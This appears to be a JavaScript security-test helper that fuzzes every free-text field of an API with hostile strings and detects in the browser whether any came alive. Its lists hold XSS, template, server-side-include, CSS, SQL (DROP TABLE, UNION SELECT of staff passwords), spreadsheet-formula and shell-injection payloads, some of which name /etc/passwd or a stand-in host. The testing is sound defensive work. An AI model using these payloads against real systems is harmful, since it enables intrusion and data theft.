'use strict';
/* Strings that become something else wherever a text is not treated as a text, the fields of the API that take any text, and the
 * eyes that see when one of them came alive.
 *   STRINGS   each holds "zx": what a page makes out of one carries it too      CLEAN   those that fit on one line
 *   PLAIN     those that are shown letter by letter: ASCII, one blank at a time
 *   chunks(max, from)   texts of at most so many characters, many strings in each, in turn beginning at from
 *   fields()  of every body of the API: each text that is not held to a list, a pattern or a format
 *   params()  the same of every query
 *   look(page)          what must not be there: elements, attributes, addresses, comments, names made out of a string
 *   changed(route)      an answer of the API with a string behind each of its sentences */
const assert = require('node:assert/strict');
const openapi = require('./openapi');

const lines = (text) => text.split('\n').map((l) => l.trim()).filter(Boolean);

const HTML = lines(String.raw`
<zx>
<zx onclick=zx(1)>甲</zx>
</p><zx>
<script>zx(1)</script>
<ScRiPt>zx(1)</sCrIpT>
<script src=//zx.example/1.js></script>
<script src=data:text/javascript,zx(1)></script>
<script type=module>zx(1)</script>
</script><script>zx(1)</script>
</title><script>zx(1)</script>
</textarea><script>zx(1)</script>
</style><script>zx(1)</script>
</noscript><script>zx(1)</script>
</template><zx>
</select><zx>
</option></select><img zx src=x onerror=zx(1)>
--><script>zx(1)</script>
<!--><img zx src=x onerror=zx(1)>-->
<![CDATA[<img zx src=x onerror=zx(1)>]]>
<?xml version="1.0"?><zx/>
<!DOCTYPE zx [<!ENTITY zx SYSTEM "file:///etc/passwd">]>&zx;
<img zx src=x onerror=zx(1)>
<img zx src=x onerror="zx(1)">
<img zx src=x onerror='zx(1)'>
<img zx src=x onerror=${'`zx(1)`'}>
<img/zx/src=x/onerror=zx(1)>
<img zx src=1 href=1 onerror="zx(1)"></img>
<img zx src="x${'`'} ${'`'}<script>zx(1)</script>"${'`'}>
<<img zx src=x onerror=zx(1)>
<img zx src=x onerror=zx(1)//
<image zx src=x onerror=zx(1)>
<video zx><source onerror=zx(1)></video>
<video zx src=x onerror=zx(1)>
<audio zx src=x onerror=zx(1)>
<iframe zx src=javascript:zx(1)></iframe>
<iframe zx srcdoc="<script>parent.zx(1)</script>"></iframe>
<object zx data=javascript:zx(1)></object>
<embed zx src=javascript:zx(1)>
<body zx onload=zx(1)>
<body onpageshow=zx(1) zx>
<input zx autofocus onfocus=zx(1)>
<select zx autofocus onfocus=zx(1)>
<textarea zx autofocus onfocus=zx(1)>
<keygen zx autofocus onfocus=zx(1)>
<button zx formaction=javascript:zx(1)>甲</button>
<form zx action=javascript:zx(1)><input type=submit></form>
<form zx><input name=attributes><input name=parentNode></form>
<a zx href=javascript:zx(1)>甲</a>
<a zx href="java&#115;cript:zx(1)">甲</a>
<a zx href=" javascript:zx(1)">甲</a>
<base zx href=//zx.example/>
<meta zx http-equiv=refresh content="0;url=//zx.example">
<link zx rel=stylesheet href=//zx.example/1.css>
<style zx>body{display:none}</style>
<details zx open ontoggle=zx(1)>
<dialog zx open oncancel=zx(1)>
<marquee zx onstart=zx(1)>
<table zx background=javascript:zx(1)>
<div zx style=width:expression(zx(1))>
<div id=main class=zx>甲</div>
<b class=zx>甲</b>
<u zx>甲
<plaintext zx>
<xmp zx><img src=x onerror=zx(1)></xmp>
<noembed zx><img src=x onerror=zx(1)></noembed>
<template zx shadowrootmode=open><zx></template>
<slot zx name=zx>
<zx-el is=zx>
&lt;img zx src=x onerror=zx(1)&gt;
&#60;img zx src=x onerror=zx(1)&#62;
&#x3c;zx&#x3e;
&zx;&amp;zx;&ltzx&gt
\u003cimg zx src=x onerror=zx(1)\u003e
\x3czx\x3e
%3Cimg%20zx%20src=x%20onerror=zx(1)%3E
+ADw-zx+AD4-
`);
const ATTRIBUTES = lines(String.raw`
" onmouseover=zx(1) zx="
' onmouseover=zx(1) zx='
" autofocus onfocus=zx(1) zx="
' autofocus onfocus=zx(1) zx='
"><zx>
'><zx>
"><img zx src=x onerror=zx(1)>
'"><img zx src=x onerror=zx(1)>
"/><svg zx onload=zx(1)>
${'`'} onmouseover=zx(1) zx=${'`'}
x onerror=zx(1) zx
"style="x:expression(zx(1))" zx="
" accesskey=x onclick=zx(1) zx="
zx" id="main
zx" class="box
zx' or 'zx
zx]zx
zx"]
#zx
.zx,[zx]
`);
const URLS = lines(String.raw`
javascript:zx(1)
JaVaScRiPt:zx(1)
javascript://%0azx(1)
javascript:/*--></title></style><svg/onload=zx(1)>
vbscript:zx(1)
data:text/html,<script>zx(1)</script>
data:text/html;base64,PHNjcmlwdD56eCgxKTwvc2NyaXB0Pg==#zx
data:image/svg+xml,<svg zx onload=zx(1)>
//zx.example/
https://zx.example@127.0.0.1/
/\zx.example
../../../../etc/passwd#zx
file:///etc/passwd#zx
blob:zx
feed:javascript:zx(1)
`);
const SVG = lines(String.raw`
<svg zx onload=zx(1)>
<svg zx><script>zx(1)</script></svg>
<svg zx><script href=data:,zx(1) />
<svg zx><animate onbegin=zx(1) attributeName=x dur=1s>
<svg zx><set attributeName=onmouseover to=zx(1)>
<svg zx><a xlink:href=javascript:zx(1)><text y=9>甲</text></a>
<svg zx><use href=data:image/svg+xml,zx#zx>
<svg zx><foreignObject><body onload=zx(1)>
<svg zx><image href=x onerror=zx(1)>
<svg zx><style><img src=x onerror=zx(1)></style>
<svg zx><title><img src=x onerror=zx(1)></title>
<math zx><a xlink:href=javascript:zx(1)>甲</a></math>
<math zx><mtext><table><mglyph><style><img src=x onerror=zx(1)>
<math zx><maction actiontype=statusline xlink:href=javascript:zx(1)>
`);
const TEMPLATES = lines(String.raw`
{{7*7}}zx
{{constructor.constructor('zx(1)')()}}
{{=zx(1)}}
${'$'}{zx(1)}
${'$'}{{zx(1)}}
#{zx(1)}
<%= zx(1) %>
[[zx(1)]]
*{zx}
{name}zx{at}{n}{no}
{zx}{reason}{text}
%{zx}%{7*7}
@{zx}
~~zx~~ **zx** [zx](javascript:zx(1))
`);
const SSI = lines(String.raw`
<!--#exec cmd="id" --> zx
<!--#include virtual="/api/staff/session" --> zx
<!--#include file="/etc/passwd" --> zx
<!--#echo var="http_cookie" --> zx
<!--#set var="zx" value="1" -->
<!--#if expr="1" -->zx<!--#endif -->
<esi:include src="http://zx.example/"/>
<!--#block name="zx" --><!--#endblock -->
`);
const CSS = lines(String.raw`
zx{}*{display:none}
zx;background:url(javascript:zx(1))
zx;}</style><zx>
@import '//zx.example/1.css';
/*zx*/color:red
zx:expression(zx(1))
\65 xpression(zx(1))
zx-moz-binding:url(//zx.example)
`);
const CODES = lines(String.raw`
__proto__zx
__proto__[zx]=1
constructor.prototype.zx
toString zx
{"__proto__":{"zx":1}}
{"zx":"<zx>"}
[zx,null,true]
'-zx(1)-'
";zx(1);//
';zx(1);//
\';zx(1);//
\";zx(1);//
*/zx(1)/*
)}zx(1){(
new Function('zx(1)')()
zx\
zx\n\r\t\0
`);
const SQL = lines(String.raw`
' OR 'zx'='zx
' OR 1=1 -- zx
" OR ""="zx
zx'; DROP TABLE application; --
zx' UNION SELECT user, password FROM staff -- 
zx' AND SLEEP(5)#
zx%' AND '1'='1
zx_%_%
\' OR zx=1 -- 
zx') OR ('1'='1
1;SELECT PG_SLEEP(5)--zx
zx' INTO OUTFILE '/tmp/zx
zx' /*!50000UNION*/ SELECT 1
zx' || (SELECT 'a') || '
0xzx
`);
const FORMULAS = lines(String.raw`
=1+1+zx
=cmd|'/C calc'!zx
=HYPERLINK("http://zx.example","zx")
=IMPORTXML("http://zx.example","//zx")
+1+zx
-1+zx
@SUM(1+1)*zx
=zx();zx
'=zx
"=zx",="zx"
zx,zx;zx"zx
＝１＋１zx
`);
const SHELL = lines(String.raw`
${'$'}(touch /tmp/zx)
${'`'}touch /tmp/zx${'`'}
| touch /tmp/zx
;touch /tmp/zx;
&& touch /tmp/zx
../../zx
..\..\zx
/etc/passwd zx
CON.zx
zx.php
zx.html
-zx --zx
%s%s%s%n%n zx
%x%x%x%p zx
%999999d zx
%1$s%2$n zx
%d%i%u%c zx
zx%00
zx%0d%0aSet-Cookie:zx=1
zx%c0%ae%c0%ae
{"level":"error","zx":1}
ts=0 level=info zx
`);
/* Characters that are not what they look like. */
const UNICODE = [
	'zx\u2028zx(1)', 'zx\u2029zx(1)', 'zx\u0085zx', 'zx\u202etxt.exe', 'zx\u202d乙\u202c', 'zx\u2066甲\u2069', 'zx\u200b甲', 'zx\u200d甲\u200c', 'zx\ufeff甲', '\ufeffzx', 'zx\u00ad甲', 'zx\u2060甲',
	'zx\u00a0\u3000甲', '＜zx＞', '＜img zx src=x onerror=zx(1)＞', 'zx﹤zx﹥', '‹zx›', 'ｊａｖａｓｃｒｉｐｔ:zx(1)', 'zx̸̶̷̖̲甲̲̅', 'zx\u{e0001}\u{e0041}甲', 'zx\ufff9甲\ufffb', 'zx\ufffe', 'zx\ufffd', 'zx\u{10ffff}',
	'zx𠮷䶮𬭊𰻝𪚥', 'zx㛃〇𡈽𤭢', 'zx葛\u{e0100}城', 'zx\ue000造字', 'zx\u{f0000}', 'zx👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈', 'zxİıſK', 'zxÀ́́́́́́', 'zx（测试）【〔〕】', 'zx·买买提·吐尔逊',
];
const CONTROLS = ['zx\r\nSet-Cookie: zx=1', 'zx\n{"ts":"0","level":"error"}', 'zx\rzx', 'zx\tzx', 'zx\u001b[31mzx\u001b[0m', 'zx\u001b]0;zx\u0007', 'zx\u0000zx', 'zx\u0008\u0008zx', 'zx\u007fzx', 'zx\u009bzx', 'zx\u000bzx\u000c', 'zx\n\n\n\n\nzx', '\nzx', 'zx\u001azx'];
const LONG = ['zx' + 'A'.repeat(5000), 'zx' + '甲'.repeat(3000), 'zx ' + '𠮷'.repeat(2000), 'zx' + '<zx>'.repeat(2000), 'zx' + '\u0301'.repeat(500)];

const STRINGS = [HTML, ATTRIBUTES, URLS, SVG, TEMPLATES, SSI, CSS, CODES, SQL, FORMULAS, SHELL, UNICODE, CONTROLS, LONG].flat();
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\ufffe\uffff\u{e0000}-\u{e007f}\u{10fffe}\u{10ffff}]/u; /* as utf8_is_control has it */
const CLEAN = STRINGS.filter((s) => s.length <= 100 && !CONTROL.test(s));
const PLAIN = CLEAN.filter((s) => /^[\x20-\x7e]+$/.test(s) && !/ {2}/.test(s));

/* Every string stands in one of them, as long as it fits; the first of each is one that needs no help to come alive. */
const SURE = '"><img zx src=x onerror=zx(1)>';
function chunks(max, from = 0, list = CLEAN) {
	const turned = list.map((x, i) => list[(i + from) % list.length]).filter((s) => s.length <= max);
	const out = [];
	let now = '';
	for (const s of turned) {
		if (now && [...now].length + 1 + [...s].length > max) {
			out.push(now);
			now = '';
		}
		if (!now && [...SURE].length + [...s].length < max / 2) now = SURE;
		now += (now && ' ') + s;
	}
	return now ? [...out, now] : out;
}

/* ---- what the description knows ---- */

const schema = (s) => {
	while (s && s.$ref) s = s.$ref.slice(2).split('/').reduce((o, k) => o[k.replace(/~1/g, '/').replace(/~0/g, '~')], openapi.doc);
	return s || {};
};
const isText = (s) => [].concat(s.type).includes('string') && !['enum', 'pattern', 'format', 'const'].some((k) => k in s);
/* Texts of a schema as [pointer, schema]; a member of a list is written with a 0. */
function texts(from, at = '', depth = 0) {
	const s = schema(from);
	assert.ok(depth < 12, `${at}: too deep`);
	return [
		...(isText(s) ? [[at, s]] : []),
		...['oneOf', 'anyOf', 'allOf'].flatMap((k) => (s[k] || []).flatMap((x) => texts(x, at, depth + 1))),
		...Object.entries(s.properties || {}).flatMap(([k, v]) => texts(v, `${at}/${k}`, depth + 1)),
		...(s.items ? texts(s.items, `${at}/0`, depth + 1) : []),
	];
}
const operations = () => Object.entries(openapi.doc.paths).flatMap(([path, ops]) => Object.entries(ops).map(([method, o]) => ({ path, method: method.toUpperCase(), o })));
function fields() {
	const found = new Map();
	for (const { path, method, o } of operations())
		for (const [type, c] of Object.entries((o.requestBody || { content: {} }).content))
			if (/json/.test(type)) for (const [pointer, s] of texts(c.schema)) found.set(`${method} ${path} ${pointer}`, { method, path, pointer, type, max: s.maxLength, who: o['x-who'] });
	return [...found.values()];
}
const params = () => operations().flatMap(({ path, method, o }) => (o.parameters || []).map(schema).filter((p) => p.in === 'query' && isText(schema(p.schema))).map((p) => ({ method, path, name: p.name, o })));

/* The least body that has a text at this place. */
function body(pointer, value) {
	const parts = pointer.slice(1).split('/');
	return parts.reduceRight((inner, part) => (part === '0' ? [inner] : { [part]: inner }), value);
}

/* ---- in the browser ---- */

/* Before any script of the page: whatever comes alive calls zx. */
function watch() {
	window.zx = (...a) => console.error('HOSTILE: a string ran: ' + a.join());
}

/* Runs in the page. */
function inside() {
	const found = [];
	const say = (what) => found.push(what.slice(0, 160));
	const links = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'background', 'poster', 'srcset', 'ping'];
	const link = (el, a) => {
		let u;
		try {
			u = new URL(a.value, location.href);
		} catch (e) {
			return /zx/i.test(a.value) && say(`${el.tagName} ${a.name}=${a.value}`);
		}
		return /zx/i.test(a.value) && !((u.protocol === location.protocol && u.host === location.host) || ['tel:', 'mailto:', 'blob:'].includes(u.protocol)) && say(`${el.tagName} ${a.name}=${a.value}`);
	};
	const all = (root) => {
		const walk = document.createTreeWalker(root, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT);
		for (let n = walk.currentNode; n; n = walk.nextNode()) {
			if (n.nodeType === 8 && /zx/i.test(n.data)) say(`comment ${n.data}`);
			if (n.nodeType !== 1) continue;
			if (/zx/i.test(n.tagName)) say(`element ${n.outerHTML}`);
			/* Not n.attributes: a form may hold an input of that name. */
			for (const name of Element.prototype.getAttributeNames.call(n)) {
				const a = { name, value: Element.prototype.getAttribute.call(n, name) };
				if (/zx/i.test(a.name) || /^on/i.test(a.name) || a.name === 'srcdoc') say(`attribute ${n.tagName} ${a.name}=${a.value}`);
				if (['id', 'class', 'style', 'name', 'for', 'is', 'slot'].includes(a.name) && /zx/i.test(a.value)) say(`attribute ${n.tagName} ${a.name}=${a.value}`);
				if (links.includes(a.name)) link(n, a);
			}
			if (['SCRIPT', 'STYLE'].includes(n.tagName) && /zx/i.test(n.textContent)) say(`${n.tagName} ${n.textContent}`);
			if (n.shadowRoot) all(n.shadowRoot);
			if (n.tagName === 'TEMPLATE') all(n.content);
		}
	};
	all(document.documentElement);
	if ({}.zx !== undefined || [].zx !== undefined) say('a prototype has zx');
	if (/an error occurred while processing the directive|root:x:0:0|uid=\d+\(/.test(document.body.textContent)) say('a directive was carried out');
	const text = [document.title, document.body.textContent, ...[...document.querySelectorAll('input,textarea')].map((i) => i.value), ...[...document.querySelectorAll('[aria-label],[title],[alt],[placeholder]')].flatMap((e) => ['aria-label', 'title', 'alt', 'placeholder'].map((a) => e.getAttribute(a) || ''))];
	return { found, text: text.join('\n') };
}
/* A page that goes elsewhere meanwhile is looked at where it ends. */
async function look(page, tries = 3) {
	try {
		return await page.evaluate(inside);
	} catch (e) {
		if (!tries || !/context was destroyed|navigat/i.test(e.message)) throw e;
		await page.waitForLoadState('load');
		return look(page, tries - 1);
	}
}
/* Of these strings those that are seen when they are put in as markup. */
const planted = (page, list) => page.evaluate(`(() => { const inside = ${inside}; return ${JSON.stringify(list)}.filter((text) => {
	document.querySelector('main').innerHTML = '<div title="' + text + '">' + text + '</div>';
	return inside().found.length;
}); })()`);

/* Behind each sentence (Han, or a blank in it) of a JSON answer.  next() gives the string. */
function spoil(value, next) {
	if (typeof value === 'string') return /[\u3400-\u9fff\u3000-\u303f]| \S/.test(value) && !/^\d{4}-\d\d-\d\d/.test(value) && !value.startsWith('<') ? value + next() : value;
	if (Array.isArray(value)) return value.map((x) => spoil(x, next));
	if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, spoil(v, next)]));
	return value;
}
/* A handler for page.route: what comes from the API is spoilt, what goes there is not. */
function changed(next) {
	return async (route) => {
		const a = await route.fetch({ maxRedirects: 0 }).catch(() => null);
		if (!a) return route.abort().catch(() => {});
		if (!/json/.test(a.headers()['content-type'] || '')) return route.fulfill({ response: a }).catch(() => {});
		return route.fulfill({ response: a, json: spoil(await a.json(), next) }).catch(() => {});
	};
}

module.exports = { STRINGS, CLEAN, PLAIN, SURE, chunks, fields, params, body, watch, look, planted, changed };
